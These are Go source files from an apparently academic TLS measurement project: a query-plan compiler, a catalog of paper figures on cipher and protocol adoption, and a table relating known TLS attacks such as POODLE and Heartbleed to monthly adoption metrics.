func (a AttackImpact) Delta12() float64 { return a.After12 - a.Before }

// impactMetrics pairs each event with the series the paper reads it
// against, expressed in the same evaluator vocabulary as the figure
// catalog. The forward-secrecy metric reads the frame's build-time
// KexForwardSecret column instead of re-classifying key exchanges per call.
var impactMetrics = []struct {
	event  string
	metric string
	eval   MetricEval
}{
	{timeline.EventRC4, "RC4 negotiated %", overEstablished(classCol("RC4"))},
	{timeline.EventRC4NoMore, "RC4 advertised %", overTotal(func(f *Frame) []int { return f.AdvRC4 })},
	{timeline.EventSnowden, "forward-secret negotiated %",
		overEstablished(func(f *Frame) []int { return f.KexForwardSecret })},
	{timeline.EventLucky13, "CBC negotiated %", overEstablished(classCol("CBC"))},
	{timeline.EventPOODLE, "SSL3 negotiated %", overEstablished(versionCol(registry.VersionSSL3))},
	{timeline.EventSweet32, "3DES advertised %", overTotal(func(f *Frame) []int { return f.Adv3DES })},
	{timeline.EventFREAK, "export advertised %", overTotal(func(f *Frame) []int { return f.AdvExport })},
	{timeline.EventHeartbleed, "heartbeat offered %", overTotal(func(f *Frame) []int { return f.OffersHeartbeat })},
}

// AttackImpacts evaluates every event/metric pair available in the
// aggregate's window.
func AttackImpacts(agg *notary.Aggregate) []AttackImpact {
	return AttackImpactsFrame(NewFrame(agg))
}

// AttackImpactsFrame evaluates the event/metric pairs against a frame.
func AttackImpactsFrame(f *Frame) []AttackImpact {
	var out []AttackImpact
	for _, im := range impactMetrics {
		date, ok := timeline.EventDate(im.event)
		if !ok {
			continue
		}
		m0 := timeline.MonthOf(date)
		before, okB := f.Row(m0.AddMonths(-1))
		after6, ok6 := f.Row(m0.AddMonths(6))
		after12, ok12 := f.Row(m0.AddMonths(12))
		if !okB || !ok6 || !ok12 {
			continue
		}
		ev := timeline.Event{Name: im.event, Date: date}
		for _, e := range timeline.Events() {
			if e.Name == im.event {
				ev = e
			}
		}
		vals := im.eval(f)
		out = append(out, AttackImpact{
			Event:   ev,
			Metric:  im.metric,
			Before:  vals[before],
			After6:  vals[after6],
			After12: vals[after12],
		})
	}
	return out
}

// RenderImpacts writes the §7.4 table.
func RenderImpacts(w io.Writer, impacts []AttackImpact) error {
	if _, err := fmt.Fprintf(w, "%-14s %-12s %-28s %8s %8s %8s %8s\n",
		"event", "date", "metric", "before", "+6mo", "+12mo", "Δ12"); err != nil {
		return err
	}
	for _, im := range impacts {
		if _, err := fmt.Fprintf(w, "%-14s %-12s %-28s %7.1f%% %7.1f%% %7.1f%% %+7.1f\n",
			im.Event.Name, im.Event.Date, im.Metric,
			im.Before, im.After6, im.After12, im.Delta12()); err != nil {
			return err
		}
	}
	return nil
}
