package analysis

// The plan compiler: the second stage of the query engine. The Expr
// interpreter (expr.go) re-walks the tree, re-validates it and re-resolves
// column selectors through the vocabulary maps on every evaluation; a Plan
// does all of that exactly once, against one Frame's column layout, and
// leaves behind a flat program whose evaluation is a single fused loop over
// the month axis.
//
// Compilation lowers an expression as follows:
//
//   - column selectors (named, family:key, family:* wildcards) resolve to
//     the concrete dense []int column — wildcard and sum nodes materialize
//     their element-wise total once at compile time, so evaluation never
//     allocates a scratch column;
//   - the dominant pct(column / column) shape becomes a specialized fused
//     kernel: one loop computing 100·num/den with the figure convention
//     that an empty denominator yields 0;
//   - scalar reductions (at/over/count/mean/min/max/first/last) stream the
//     fused series value-by-value, so no intermediate slice is ever
//     materialized.
//
// A Plan is bound to the Frame it was compiled against (its kernels hold
// that frame's column slices); ValidFor revalidates the binding cheaply by
// layout fingerprint when a study's generation advances. Plans are
// immutable after Compile and safe for concurrent evaluation.
//
// Compiled evaluation is bit-for-bit identical to the interpreter —
// plan_test.go proves it differentially for the whole catalog and for
// randomly generated expressions, and FuzzCompileEval keeps it that way.

import (
	"fmt"
	"strings"
)

// planKernel selects the fused series loop.
type planKernel uint8

const (
	// kernelZero: the series is identically zero (a never-observed column,
	// an unobserved position class, or a ratio with a missing operand).
	kernelZero planKernel = iota
	// kernelCol: raw counts of one resolved column (column→series promotion).
	kernelCol
	// kernelPct: the specialized pct(column / column) shape.
	kernelPct
	// kernelPosition: the Figure 5 relative-position series.
	kernelPosition
)

// reduceOp selects the scalar reduction applied to the kernel's series.
type reduceOp uint8

const (
	reduceNone reduceOp = iota // series-kind plan, no reduction
	reduceAt
	reduceOver
	reduceCount
	reduceMean
	reduceMin
	reduceMax
	reduceFirst
	reduceLast
)

// Plan is a compiled, frame-bound query program. Compile it once per
// (expression, frame) pair and evaluate it any number of times; evaluation
// performs no validation, no vocabulary lookups and no allocation beyond
// the result slice (none at all for scalars or EvalSeriesInto with a
// caller-owned buffer).
type Plan struct {
	frame *Frame
	kind  Kind
	query string // canonical text form, the cache key

	kernel planKernel
	col    []int // kernelCol
	num    []int // kernelPct numerator, reduceOver numerator
	den    []int // kernelPct denominator, reduceOver denominator

	posSum   []float64 // kernelPosition
	posCount []int     // kernelPosition

	reduce reduceOp
	row    int // reduceAt: resolved row index, -1 when outside the frame
}

// Compile lowers a validated expression into a flat plan bound to f's
// column layout. Compilation validates e (so any Expr is accepted) and is
// the only place selector resolution happens; the returned plan evaluates
// without ever consulting the column vocabulary again.
func Compile(e *Expr, f *Frame) (*Plan, error) {
	if f == nil {
		return nil, fmt.Errorf("analysis: Compile on nil frame")
	}
	if err := e.Validate(); err != nil {
		return nil, err
	}
	p := &Plan{frame: f, kind: e.Kind(), query: e.String(), row: -1}
	switch p.kind {
	case KindColumn, KindSeries:
		p.compileSeries(e)
	default:
		p.compileScalar(e)
	}
	return p, nil
}

// CompileQuery parses src with ParseQuery and compiles it against f.
func CompileQuery(src string, f *Frame) (*Plan, error) {
	e, err := ParseQuery(src)
	if err != nil {
		return nil, err
	}
	return Compile(e, f)
}

// compileColumn resolves a validated column-kind expression to one dense
// []int aligned with the frame's months. Sum nodes and family wildcards
// materialize their total here, at compile time; nil means all-zero.
func (p *Plan) compileColumn(e *Expr) []int {
	f := p.frame
	switch e.Op {
	case OpCol:
		name := fold(e.Col)
		if get, ok := namedColumns[name]; ok {
			return get(f)
		}
		i := strings.IndexByte(name, ':')
		def := columnFamilies[name[:i]]
		if key := name[i+1:]; key != "*" {
			return def.column(f, key)
		}
		out := make([]int, f.Len())
		for _, c := range def.all(f) {
			for i, v := range c {
				out[i] += v
			}
		}
		return out
	case OpSum:
		out := make([]int, f.Len())
		for _, a := range e.Args {
			if c := p.compileColumn(a); c != nil {
				for i, v := range c {
					out[i] += v
				}
			}
		}
		return out
	}
	panic(fmt.Sprintf("analysis: compileColumn on %q node", e.Op))
}

// compileSeries lowers a validated series- or column-kind expression into
// the plan's kernel slots.
func (p *Plan) compileSeries(e *Expr) {
	switch e.Op {
	case OpPct:
		num := p.compileColumn(e.Args[0])
		den := p.compileColumn(e.Args[1])
		if num == nil || den == nil {
			// 100·0/den and n/0 both yield 0 under the figure convention.
			p.kernel = kernelZero
			return
		}
		p.kernel, p.num, p.den = kernelPct, num, den
	case OpPosition:
		class := classKeys[fold(e.Class)]
		sums, counts := p.frame.PosSum[class], p.frame.PosCount[class]
		if sums == nil || counts == nil {
			p.kernel = kernelZero
			return
		}
		p.kernel, p.posSum, p.posCount = kernelPosition, sums, counts
	default: // column promotion: raw counts
		if col := p.compileColumn(e); col != nil {
			p.kernel, p.col = kernelCol, col
		} else {
			p.kernel = kernelZero
		}
	}
}

// compileScalar lowers a validated scalar-kind expression: the reductions
// that fold whole columns (over/count) keep the resolved columns, the
// series reductions keep the inner kernel and stream it at eval time.
func (p *Plan) compileScalar(e *Expr) {
	switch e.Op {
	case OpAt:
		p.reduce = reduceAt
		m, _ := parseMonth(e.Month) // validated
		if row, ok := p.frame.Row(m); ok {
			p.row = row
		}
		p.compileSeries(e.Args[0])
	case OpOver:
		p.reduce = reduceOver
		p.num = p.compileColumn(e.Args[0])
		p.den = p.compileColumn(e.Args[1])
	case OpCount:
		p.reduce = reduceCount
		p.col = p.compileColumn(e.Args[0])
	default:
		switch e.Op {
		case OpMean:
			p.reduce = reduceMean
		case OpMin:
			p.reduce = reduceMin
		case OpMax:
			p.reduce = reduceMax
		case OpFirst:
			p.reduce = reduceFirst
		case OpLast:
			p.reduce = reduceLast
		}
		p.compileSeries(e.Args[0])
	}
}

// Kind returns what the plan evaluates to.
func (p *Plan) Kind() Kind { return p.kind }

// Query returns the canonical text form of the compiled expression — the
// result-cache key.
func (p *Plan) Query() string { return p.query }

// Frame returns the frame the plan was compiled against.
func (p *Plan) Frame() *Frame { return p.frame }

// ValidFor reports whether the plan's column bindings are valid for f: the
// exact frame it was compiled against, or a frame with an identical layout
// fingerprint (same generation, month axis and column layout — equal
// fingerprints mean the bound columns hold the same values). Holders
// re-Compile when this returns false, i.e. whenever the study's generation
// advances.
func (p *Plan) ValidFor(f *Frame) bool {
	return f != nil && (p.frame == f || p.frame.Fingerprint() == f.Fingerprint())
}

// seriesAt evaluates the fused series at one row — the streaming form the
// scalar reductions consume, so they never materialize the series.
func (p *Plan) seriesAt(i int) float64 {
	switch p.kernel {
	case kernelCol:
		return float64(p.col[i])
	case kernelPct:
		if d := p.den[i]; d != 0 {
			return 100 * float64(p.num[i]) / float64(d)
		}
		return 0
	case kernelPosition:
		if c := p.posCount[i]; c != 0 {
			return 100 * p.posSum[i] / float64(c)
		}
		return 0
	}
	return 0
}

// EvalSeriesInto evaluates a series- or column-kind plan into dst, growing
// it only when its capacity is short — with a caller-owned buffer of
// frame length the evaluation is allocation-free. Scalar-kind plans return
// nil (use EvalScalar).
func (p *Plan) EvalSeriesInto(dst []float64) []float64 {
	if p.kind == KindScalar {
		return nil
	}
	n := p.frame.Len()
	if cap(dst) < n {
		dst = make([]float64, n)
	}
	dst = dst[:n]
	switch p.kernel {
	case kernelCol:
		col := p.col[:n]
		for i := range dst {
			dst[i] = float64(col[i])
		}
	case kernelPct:
		// The dominant catalog shape, fused into one loop with the slices
		// pre-sliced for bounds-check elimination.
		num, den := p.num[:n], p.den[:n]
		for i := range dst {
			if d := den[i]; d != 0 {
				dst[i] = 100 * float64(num[i]) / float64(d)
			} else {
				dst[i] = 0
			}
		}
	case kernelPosition:
		sums, counts := p.posSum[:n], p.posCount[:n]
		for i := range dst {
			if c := counts[i]; c != 0 {
				dst[i] = 100 * sums[i] / float64(c)
			} else {
				dst[i] = 0
			}
		}
	default: // kernelZero
		for i := range dst {
			dst[i] = 0
		}
	}
	return dst
}

// EvalSeries evaluates a series- or column-kind plan; the returned slice is
// the evaluation's only allocation.
func (p *Plan) EvalSeries() []float64 { return p.EvalSeriesInto(nil) }

// EvalScalar evaluates a scalar-kind plan with zero allocations: the
// reduction streams the fused series instead of materializing it. Results
// are bit-for-bit identical to the interpreter's EvalScalar.
func (p *Plan) EvalScalar() float64 {
	switch p.reduce {
	case reduceAt:
		if p.row < 0 {
			return 0
		}
		return p.seriesAt(p.row)
	case reduceOver:
		num, den := sumCol(p.num), sumCol(p.den)
		if den == 0 {
			return 0
		}
		return 100 * float64(num) / float64(den)
	case reduceCount:
		return float64(sumCol(p.col))
	}
	n := p.frame.Len()
	if n == 0 {
		return 0
	}
	switch p.reduce {
	case reduceMean:
		s := 0.0
		for i := 0; i < n; i++ {
			s += p.seriesAt(i)
		}
		return s / float64(n)
	case reduceMin:
		m := p.seriesAt(0)
		for i := 1; i < n; i++ {
			if v := p.seriesAt(i); v < m {
				m = v
			}
		}
		return m
	case reduceMax:
		m := p.seriesAt(0)
		for i := 1; i < n; i++ {
			if v := p.seriesAt(i); v > m {
				m = v
			}
		}
		return m
	case reduceFirst:
		return p.seriesAt(0)
	case reduceLast:
		return p.seriesAt(n - 1)
	}
	panic(fmt.Sprintf("analysis: EvalScalar on series-kind plan %q", p.query))
}

// Eval evaluates the plan into the same QueryResult the interpreter's
// Frame.Query produces, byte-identical on the wire.
func (p *Plan) Eval() QueryResult {
	if p.kind == KindScalar {
		return QueryResult{Query: p.query, Kind: "scalar", Value: p.EvalScalar()}
	}
	f := p.frame
	pts := make([]Point, f.Len())
	switch p.kernel {
	case kernelPct:
		num, den := p.num[:len(pts)], p.den[:len(pts)]
		for i := range pts {
			v := 0.0
			if d := den[i]; d != 0 {
				v = 100 * float64(num[i]) / float64(d)
			}
			pts[i] = Point{Month: f.Months[i], Value: v}
		}
	default:
		for i := range pts {
			pts[i] = Point{Month: f.Months[i], Value: p.seriesAt(i)}
		}
	}
	return QueryResult{
		Query:  p.query,
		Kind:   "series",
		Series: Series{Name: p.query, Points: pts, index: f.index},
	}
}
