package analysis

import (
	"fmt"

	"tlsage/internal/timeline"
)

// MetricSpec names one series of a figure and the expression that computes
// it. Specs are pure data: they marshal to JSON and round-trip through the
// query grammar, so the catalog itself is servable and any metric can be
// re-evaluated from its serialized form.
type MetricSpec struct {
	Name string
	Expr *Expr
}

// FigureSpec is one catalog entry: a figure as data. The generic engine
// (Frame.EvalFigure) turns a spec into the same Figure value the hand-rolled
// constructors used to build.
type FigureSpec struct {
	// Num is the paper figure number (1–10), 0 for extras like the §9
	// extension-uptake figure.
	Num int
	// ID is the rendered identifier, e.g. "Figure 4".
	ID string
	// Name is the catalog lookup name, e.g. "fingerprint-classes".
	Name string
	// Title is the rendered figure title.
	Title string
	// Metrics are the figure's series, in render order.
	Metrics []MetricSpec
	// Events names the timeline attack events drawn as markers.
	Events []string
}

// q parses a catalog expression, panicking on error: the catalog is static
// data validated at package init.
func q(src string) *Expr {
	e, err := ParseQuery(src)
	if err != nil {
		panic(fmt.Sprintf("analysis: bad catalog query: %v", err))
	}
	return e
}

// --- the catalog ---

// catalog declares every figure of the paper plus the §9 extension-uptake
// extra, each series a query-grammar expression. Order fixes Figures()'
// output; Num and Name are the lookup keys.
var catalog = []FigureSpec{
	{
		Num: 1, ID: "Figure 1", Name: "versions",
		Title: "Negotiated SSL/TLS versions (% monthly connections)",
		Metrics: []MetricSpec{
			{"SSLv3", q("pct(version:ssl3 / established)")},
			{"TLSv10", q("pct(version:tls10 / established)")},
			{"TLSv11", q("pct(version:tls11 / established)")},
			{"TLSv12", q("pct(version:tls12 / established)")},
			{"TLSv13", q("pct(version:tls13 / established)")},
		},
		Events: []string{timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventSnowden, timeline.EventRC4Passwords, timeline.EventRC4NoMore,
			timeline.EventSweet32},
	},
	{
		Num: 2, ID: "Figure 2", Name: "negotiated-classes",
		Title: "Negotiated connections using RC4, CBC or AEAD (%)",
		Metrics: []MetricSpec{
			{"AEAD", q("pct(class:aead / established)")},
			{"CBC", q("pct(class:cbc / established)")},
			{"RC4", q("pct(class:rc4 / established)")},
		},
		Events: []string{timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventSnowden, timeline.EventRC4Passwords, timeline.EventRC4NoMore,
			timeline.EventSweet32},
	},
	{
		Num: 3, ID: "Figure 3", Name: "advertised-classes",
		Title: "Client-advertised RC4 / DES / 3DES / AEAD (% connections)",
		Metrics: []MetricSpec{
			{"AEAD", q("pct(adv-aead / total)")},
			{"RC4", q("pct(adv-rc4 / total)")},
			{"DES", q("pct(adv-des / total)")},
			{"3DES", q("pct(adv-3des / total)")},
		},
		Events: []string{timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventRC4Passwords, timeline.EventRC4NoMore, timeline.EventSweet32},
	},
	{
		Num: 4, ID: "Figure 4", Name: "fingerprint-classes",
		Title: "Fingerprints supporting RC4 / DES / 3DES / AEAD (% monthly fingerprints)",
		Metrics: []MetricSpec{
			{"AEAD", q("pct(fp-aead / fingerprints)")},
			{"RC4", q("pct(fp-rc4 / fingerprints)")},
			{"DES", q("pct(fp-des / fingerprints)")},
			{"3DES", q("pct(fp-3des / fingerprints)")},
		},
		Events: []string{timeline.EventPOODLE, timeline.EventRC4Passwords,
			timeline.EventRC4NoMore, timeline.EventSweet32},
	},
	{
		Num: 5, ID: "Figure 5", Name: "cipher-positions",
		Title: "Average relative position of first advertised cipher by class (%)",
		Metrics: []MetricSpec{
			{"AEAD", q("position(aead)")},
			{"CBC", q("position(cbc)")},
			{"RC4", q("position(rc4)")},
			{"DES", q("position(des)")},
			{"3DES", q("position(3des)")},
		},
	},
	{
		Num: 6, ID: "Figure 6", Name: "rc4-advertised",
		Title: "Connections with client-advertised RC4 (%)",
		Metrics: []MetricSpec{
			{"RC4 advertised", q("pct(adv-rc4 / total)")},
		},
		Events: []string{timeline.EventRC4, timeline.EventRFC7465,
			timeline.EventRC4Passwords, timeline.EventRC4NoMore},
	},
	{
		Num: 7, ID: "Figure 7", Name: "weak-advertised",
		Title: "Client-advertised Export / Anonymous / NULL suites (% connections)",
		Metrics: []MetricSpec{
			{"Export", q("pct(adv-export / total)")},
			{"Anonymous", q("pct(adv-anon / total)")},
			{"Null", q("pct(adv-null / total)")},
		},
		Events: []string{timeline.EventFREAK, timeline.EventLogjam},
	},
	{
		Num: 8, ID: "Figure 8", Name: "key-exchange",
		Title: "Negotiated RSA / DHE / ECDHE key exchange (% connections)",
		Metrics: []MetricSpec{
			{"RSA", q("pct(kex:rsa / established)")},
			{"DHE", q("pct(kex:dhe / established)")},
			// TLS 1.3 counts as ECDHE: its key exchange is ephemeral.
			{"ECDHE", q("pct(sum(kex:ecdhe, kex:tls13) / established)")},
		},
		Events: []string{timeline.EventSnowden},
	},
	{
		Num: 9, ID: "Figure 9", Name: "aead-negotiated",
		Title: "Negotiated AEAD ciphers (% connections)",
		Metrics: []MetricSpec{
			{"AEAD Total", q("pct(neg-aead / established)")},
			{"AES128-GCM", q("pct(neg-aes128-gcm / established)")},
			{"AES256-GCM", q("pct(neg-aes256-gcm / established)")},
			{"ChaCha20-Poly1305", q("pct(neg-chacha / established)")},
		},
	},
	{
		Num: 10, ID: "Figure 10", Name: "aead-advertised",
		Title: "Client-advertised AEAD ciphers (% connections)",
		Metrics: []MetricSpec{
			{"AES128-GCM", q("pct(adv-aes128-gcm / total)")},
			{"AES256-GCM", q("pct(adv-aes256-gcm / total)")},
			{"ChaCha20-Poly1305", q("pct(adv-chacha / total)")},
			{"AES-CCM", q("pct(adv-ccm / total)")},
		},
	},
	{
		// The §9 "other fascinating insights" figure the paper mentions but
		// had no space for: monthly advertisement of renegotiation_info (the
		// RIE response to the renegotiation attack), encrypt_then_mac (the
		// Lucky 13 response with "very limited take up"), and friends.
		Num: 0, ID: "Figure E1", Name: "extensions",
		Title: "Client-advertised TLS extensions (% connections)",
		Metrics: []MetricSpec{
			{"renegotiation_info", q("pct(ext:renegotiation_info / total)")},
			{"encrypt_then_mac", q("pct(ext:encrypt_then_mac / total)")},
			{"extended_master_secret", q("pct(ext:extended_master_secret / total)")},
			{"session_ticket", q("pct(ext:session_ticket / total)")},
			{"server_name", q("pct(ext:server_name / total)")},
			{"heartbeat", q("pct(ext:heartbeat / total)")},
			{"supported_versions", q("pct(ext:supported_versions / total)")},
		},
		Events: []string{timeline.EventLucky13, timeline.EventHeartbleed},
	},
	{
		// §4 / Table 2 over time: the share of fingerprinted connections
		// attributed to each client class, month by month. The Table 2 scalars
		// are the over() folds of exactly these ratios.
		Num: 0, ID: "Figure E2", Name: "agent-classes",
		Title: "Attributed client classes (% fingerprinted connections)",
		Metrics: []MetricSpec{
			{"Libraries", q("pct(agent:libraries / fp-conns)")},
			{"Browsers", q("pct(agent:browsers / fp-conns)")},
			{"OS Tools and Services", q("pct(agent:os-tools / fp-conns)")},
			{"Mobile apps", q("pct(agent:mobile-apps / fp-conns)")},
			{"Dev. tools", q("pct(agent:dev-tools / fp-conns)")},
			{"AV", q("pct(agent:av / fp-conns)")},
			{"Cloud Storage", q("pct(agent:cloud-storage / fp-conns)")},
			{"Email", q("pct(agent:email / fp-conns)")},
			{"Malware & PUP", q("pct(agent:malware / fp-conns)")},
		},
	},
}

// Catalog returns every declared figure spec, paper figures first.
func Catalog() []FigureSpec { return catalog }

// CatalogNames returns the lookup name of every catalog figure, in catalog
// order — the "valid names" list for lookup-miss errors.
func CatalogNames() []string {
	out := make([]string, 0, len(catalog))
	for _, s := range catalog {
		out = append(out, s.Name)
	}
	return out
}

// SpecByNum finds the paper figure numbered n (1–10).
func SpecByNum(n int) (FigureSpec, bool) {
	for _, s := range catalog {
		if s.Num == n && n != 0 {
			return s, true
		}
	}
	return FigureSpec{}, false
}

// SpecByName finds a spec by catalog name, e.g. "fingerprint-classes".
// Names match case-insensitively.
func SpecByName(name string) (FigureSpec, bool) {
	name = fold(name)
	for _, s := range catalog {
		if s.Name == name {
			return s, true
		}
	}
	return FigureSpec{}, false
}

// --- the engine ---

// EvalFigure evaluates one spec against the frame: every metric expression
// becomes a series with one point per month on the frame's axis. The
// produced Series share the frame's month index, making Series.Value O(1).
// Catalog specs evaluate through the frame's pre-compiled plans (no
// per-call validation or selector resolution); a hand-built spec falls
// back to the interpreter. EvalFigure panics on a spec whose expression
// does not validate — specs are static data, so that is a programming
// error, not an input error.
func (f *Frame) EvalFigure(spec FigureSpec) Figure {
	fig := Figure{
		ID:     spec.ID,
		Title:  spec.Title,
		Series: make([]Series, 0, len(spec.Metrics)),
		Events: attackEvents(spec.Events...),
	}
	for _, m := range spec.Metrics {
		var vals []float64
		if p := f.planFor(m.Expr); p != nil {
			vals = p.EvalSeries()
		} else {
			var err error
			vals, err = f.EvalSeries(m.Expr)
			if err != nil {
				panic(fmt.Sprintf("analysis: figure %s metric %s: %v", spec.ID, m.Name, err))
			}
		}
		pts := make([]Point, len(vals))
		for i, v := range vals {
			pts[i] = Point{Month: f.Months[i], Value: v}
		}
		fig.Series = append(fig.Series, Series{Name: m.Name, Points: pts, index: f.index})
	}
	return fig
}

// Figures evaluates the ten paper figures in order.
func (f *Frame) Figures() []Figure {
	out := make([]Figure, 0, 10)
	for _, spec := range catalog {
		if spec.Num != 0 {
			out = append(out, f.EvalFigure(spec))
		}
	}
	return out
}

// FigureByNum evaluates paper figure n (1–10).
func (f *Frame) FigureByNum(n int) (Figure, bool) {
	spec, ok := SpecByNum(n)
	if !ok {
		return Figure{}, false
	}
	return f.EvalFigure(spec), true
}

// FigureByName evaluates the catalog figure with the given name.
func (f *Frame) FigureByName(name string) (Figure, bool) {
	spec, ok := SpecByName(name)
	if !ok {
		return Figure{}, false
	}
	return f.EvalFigure(spec), true
}
