package analysis

import (
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// MetricEval computes one series of values, one per frame row. Evaluators
// resolve their columns once and then scan densely — no per-row map lookups.
type MetricEval func(f *Frame) []float64

// MetricSpec names one series of a figure and how to compute it.
type MetricSpec struct {
	Name string
	Eval MetricEval
}

// FigureSpec is one catalog entry: a figure as data. The generic engine
// (Frame.EvalFigure) turns a spec into the same Figure value the hand-rolled
// constructors used to build.
type FigureSpec struct {
	// Num is the paper figure number (1–10), 0 for extras like the §9
	// extension-uptake figure.
	Num int
	// ID is the rendered identifier, e.g. "Figure 4".
	ID string
	// Name is the catalog lookup name, e.g. "fingerprint-classes".
	Name string
	// Title is the rendered figure title.
	Title string
	// Metrics are the figure's series, in render order.
	Metrics []MetricSpec
	// Events names the timeline attack events drawn as markers.
	Events []string
}

// --- evaluator vocabulary ---

// ColumnFn resolves one dense integer column of a frame. It may return nil
// when the underlying key was never observed; evaluators read nil as zeros.
type ColumnFn func(f *Frame) []int

func versionCol(v registry.Version) ColumnFn {
	return func(f *Frame) []int { return f.Version[v] }
}

func classCol(c string) ColumnFn {
	return func(f *Frame) []int { return f.Class[c] }
}

func kexCol(k registry.KeyExchange) ColumnFn {
	return func(f *Frame) []int { return f.Kex[k] }
}

func extCol(e registry.ExtensionID) ColumnFn {
	return func(f *Frame) []int { return f.Extension[e] }
}

// addCols sums columns element-wise (e.g. ECDHE + TLS 1.3 in Figure 8).
func addCols(cols ...ColumnFn) ColumnFn {
	return func(f *Frame) []int {
		out := make([]int, f.Len())
		for _, cf := range cols {
			c := cf(f)
			for i := range c {
				out[i] += c[i]
			}
		}
		return out
	}
}

// pctSeries evaluates 100·num/den per row with zero denominators yielding 0.
func pctSeries(num, den []int, n int) []float64 {
	out := make([]float64, n)
	for i := range out {
		out[i] = pctAt(num, den, i)
	}
	return out
}

// overTotal expresses a column as a percentage of all monthly hellos.
func overTotal(cf ColumnFn) MetricEval {
	return func(f *Frame) []float64 { return pctSeries(cf(f), f.Total, f.Len()) }
}

// overEstablished expresses a column as a percentage of established
// connections.
func overEstablished(cf ColumnFn) MetricEval {
	return func(f *Frame) []float64 { return pctSeries(cf(f), f.Established, f.Len()) }
}

// overFPs expresses a column as a percentage of distinct monthly
// fingerprints.
func overFPs(cf ColumnFn) MetricEval {
	return func(f *Frame) []float64 { return pctSeries(cf(f), f.FPTotal, f.Len()) }
}

// position evaluates the Figure 5 metric: the average relative position of
// the first suite of a class in client-advertised lists.
func position(class string) MetricEval {
	return func(f *Frame) []float64 {
		out := make([]float64, f.Len())
		sums, counts := f.PosSum[class], f.PosCount[class]
		for i := range out {
			if c := at(counts, i); c != 0 {
				out[i] = 100 * sums[i] / float64(c)
			}
		}
		return out
	}
}

// --- the catalog ---

// catalog declares every figure of the paper plus the §9 extension-uptake
// extra. Order fixes Figures()' output; Num and Name are the lookup keys.
var catalog = []FigureSpec{
	{
		Num: 1, ID: "Figure 1", Name: "versions",
		Title: "Negotiated SSL/TLS versions (% monthly connections)",
		Metrics: []MetricSpec{
			{"SSLv3", overEstablished(versionCol(registry.VersionSSL3))},
			{"TLSv10", overEstablished(versionCol(registry.VersionTLS10))},
			{"TLSv11", overEstablished(versionCol(registry.VersionTLS11))},
			{"TLSv12", overEstablished(versionCol(registry.VersionTLS12))},
			{"TLSv13", overEstablished(versionCol(registry.VersionTLS13))},
		},
		Events: []string{timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventSnowden, timeline.EventRC4Passwords, timeline.EventRC4NoMore,
			timeline.EventSweet32},
	},
	{
		Num: 2, ID: "Figure 2", Name: "negotiated-classes",
		Title: "Negotiated connections using RC4, CBC or AEAD (%)",
		Metrics: []MetricSpec{
			{"AEAD", overEstablished(classCol("AEAD"))},
			{"CBC", overEstablished(classCol("CBC"))},
			{"RC4", overEstablished(classCol("RC4"))},
		},
		Events: []string{timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventSnowden, timeline.EventRC4Passwords, timeline.EventRC4NoMore,
			timeline.EventSweet32},
	},
	{
		Num: 3, ID: "Figure 3", Name: "advertised-classes",
		Title: "Client-advertised RC4 / DES / 3DES / AEAD (% connections)",
		Metrics: []MetricSpec{
			{"AEAD", overTotal(func(f *Frame) []int { return f.AdvAEAD })},
			{"RC4", overTotal(func(f *Frame) []int { return f.AdvRC4 })},
			{"DES", overTotal(func(f *Frame) []int { return f.AdvDES })},
			{"3DES", overTotal(func(f *Frame) []int { return f.Adv3DES })},
		},
		Events: []string{timeline.EventLucky13, timeline.EventPOODLE, timeline.EventRC4,
			timeline.EventRC4Passwords, timeline.EventRC4NoMore, timeline.EventSweet32},
	},
	{
		Num: 4, ID: "Figure 4", Name: "fingerprint-classes",
		Title: "Fingerprints supporting RC4 / DES / 3DES / AEAD (% monthly fingerprints)",
		Metrics: []MetricSpec{
			{"AEAD", overFPs(func(f *Frame) []int { return f.FPAEAD })},
			{"RC4", overFPs(func(f *Frame) []int { return f.FPRC4 })},
			{"DES", overFPs(func(f *Frame) []int { return f.FPDES })},
			{"3DES", overFPs(func(f *Frame) []int { return f.FP3DES })},
		},
		Events: []string{timeline.EventPOODLE, timeline.EventRC4Passwords,
			timeline.EventRC4NoMore, timeline.EventSweet32},
	},
	{
		Num: 5, ID: "Figure 5", Name: "cipher-positions",
		Title: "Average relative position of first advertised cipher by class (%)",
		Metrics: []MetricSpec{
			{"AEAD", position("AEAD")},
			{"CBC", position("CBC")},
			{"RC4", position("RC4")},
			{"DES", position("DES")},
			{"3DES", position("3DES")},
		},
	},
	{
		Num: 6, ID: "Figure 6", Name: "rc4-advertised",
		Title: "Connections with client-advertised RC4 (%)",
		Metrics: []MetricSpec{
			{"RC4 advertised", overTotal(func(f *Frame) []int { return f.AdvRC4 })},
		},
		Events: []string{timeline.EventRC4, timeline.EventRFC7465,
			timeline.EventRC4Passwords, timeline.EventRC4NoMore},
	},
	{
		Num: 7, ID: "Figure 7", Name: "weak-advertised",
		Title: "Client-advertised Export / Anonymous / NULL suites (% connections)",
		Metrics: []MetricSpec{
			{"Export", overTotal(func(f *Frame) []int { return f.AdvExport })},
			{"Anonymous", overTotal(func(f *Frame) []int { return f.AdvAnon })},
			{"Null", overTotal(func(f *Frame) []int { return f.AdvNULL })},
		},
		Events: []string{timeline.EventFREAK, timeline.EventLogjam},
	},
	{
		Num: 8, ID: "Figure 8", Name: "key-exchange",
		Title: "Negotiated RSA / DHE / ECDHE key exchange (% connections)",
		Metrics: []MetricSpec{
			{"RSA", overEstablished(kexCol(registry.KexRSA))},
			{"DHE", overEstablished(kexCol(registry.KexDHE))},
			// TLS 1.3 counts as ECDHE: its key exchange is ephemeral.
			{"ECDHE", overEstablished(addCols(kexCol(registry.KexECDHE), kexCol(registry.KexTLS13)))},
		},
		Events: []string{timeline.EventSnowden},
	},
	{
		Num: 9, ID: "Figure 9", Name: "aead-negotiated",
		Title: "Negotiated AEAD ciphers (% connections)",
		Metrics: []MetricSpec{
			{"AEAD Total", overEstablished(func(f *Frame) []int { return f.NegAEAD })},
			{"AES128-GCM", overEstablished(func(f *Frame) []int { return f.NegGCM128 })},
			{"AES256-GCM", overEstablished(func(f *Frame) []int { return f.NegGCM256 })},
			{"ChaCha20-Poly1305", overEstablished(func(f *Frame) []int { return f.NegChaCha })},
		},
	},
	{
		Num: 10, ID: "Figure 10", Name: "aead-advertised",
		Title: "Client-advertised AEAD ciphers (% connections)",
		Metrics: []MetricSpec{
